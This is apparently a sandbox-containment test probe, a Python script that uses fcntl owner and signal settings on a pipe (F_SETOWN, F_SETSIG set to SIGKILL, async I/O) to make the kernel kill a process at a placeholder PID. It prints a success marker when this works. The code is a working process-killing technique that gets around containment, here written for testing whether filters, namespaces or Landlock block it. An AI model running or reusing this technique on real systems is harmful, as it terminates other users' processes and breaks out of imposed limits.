# ruff: noqa
# tries: to have the kernel kill a process of the user, as the owner of a pipe
# shown without containment: yes
# stopped by: filter or namespaces or Landlock
import fcntl
import os
import signal
import struct

F_SETSIG, F_SETOWN_EX, FIOASYNC = 10, 15, 0x5452
ways = (
    (lambda end: fcntl.fcntl(end, fcntl.F_SETOWN, int("@PID@")), lambda end: fcntl.fcntl(end, fcntl.F_SETFL, 0o20000)),
    (
        lambda end: fcntl.fcntl(end, F_SETOWN_EX, struct.pack("ii", 1, int("@PID@"))),
        lambda end: fcntl.ioctl(end, FIOASYNC, struct.pack("i", 1)),
    ),
)
for own, arm in ways:
    read, write = os.pipe()
    try:
        own(read)
        fcntl.fcntl(read, F_SETSIG, signal.SIGKILL)
        arm(read)
        os.write(write, b"x")
        if fcntl.fcntl(read, fcntl.F_GETOWN) == int("@PID@"):
            print("H4RM D0NE")
    except OSError as error:
        print(error)
